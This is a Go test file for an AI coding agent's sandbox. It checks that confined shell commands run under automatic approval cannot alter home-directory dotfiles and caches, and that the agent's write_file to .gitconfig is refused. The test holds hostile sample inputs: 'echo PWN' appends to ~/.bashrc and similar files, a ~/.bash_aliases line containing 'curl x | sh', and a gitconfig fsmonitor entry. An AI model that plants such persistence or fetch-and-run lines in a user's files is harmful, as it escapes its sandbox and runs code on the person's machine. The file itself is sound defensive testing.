package runner

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/magi-code/magi-code/client"
	"github.com/magi-code/magi-code/client/clienttest"
	"github.com/magi-code/magi-code/internal/ostest"
)

// TestHomeWorkspaceUnderAuto: through serve --stdio with the fixture
// provider, under approval = "auto", in a session started in the home
// directory itself, a confined command cannot change the person's
// dotfiles and caches there (~/.bashrc, ~/.gitconfig, ~/.config/fish,
// ~/go, ~/.local/bin), which their next shell, build or commit runs
// unconfined, and a new dotfile it makes (~/.bash_aliases, which ~/.bashrc
// sources) is moved aside; write_file is refused there; the rest of home
// is written. Nothing asks. The scratch root is outside /tmp and TMPDIR.
func TestHomeWorkspaceUnderAuto(t *testing.T) {
	t.Parallel()
	root := ostest.OutsideTemp(t)
	home := filepath.Join(root, "home")
	files := []string{".bashrc", ".gitconfig", ".config/fish/config.fish", "go/pkg/mod/m@v1/x.go", ".local/bin/tool"}
	for _, f := range append([]string{"proj/main.go"}, files...) {
		p := filepath.Join(home, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("ORIG\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var cmds []string
	for _, f := range files {
		cmds = append(cmds, "echo PWN >> "+clienttest.Quote(f))
	}
	calls := append(shellCalls(append(cmds, "echo 'curl x | sh' > .bash_aliases", "echo ok >> proj/main.go")...),
		map[string]any{"name": "write_file", "arguments": map[string]any{"path": ".gitconfig", "content": "[core]\n\tfsmonitor = x\n"}})
	ws := &clienttest.Workspace{Home: filepath.Join(root, "mc"), Cwd: home}
	ws.WriteFile(t, filepath.Join(ws.Home, "settings.toml"), fixtureAuto(callScript(t, root, calls), ""))
	unaskedTurn(t, startChild(t, ws, client.Options{Env: []string{"MC_HOME=" + ws.Home, "HOME=" + home, "PATH=/usr/bin:/bin"}}))
	for _, f := range files {
		if got := readFile(t, filepath.Join(home, f)); got != "ORIG\n" {
			t.Errorf("~/%s became %q", f, got)
		}
	}
	if _, err := os.Lstat(filepath.Join(home, ".bash_aliases")); err == nil {
		t.Error("~/.bash_aliases, made by a confined command, is still in place")
	}
	if got := readFile(t, filepath.Join(home, "proj", "main.go")); got != "ORIG\nok\n" {
		t.Errorf("~/proj/main.go = %q; want it written", got)
	}
}
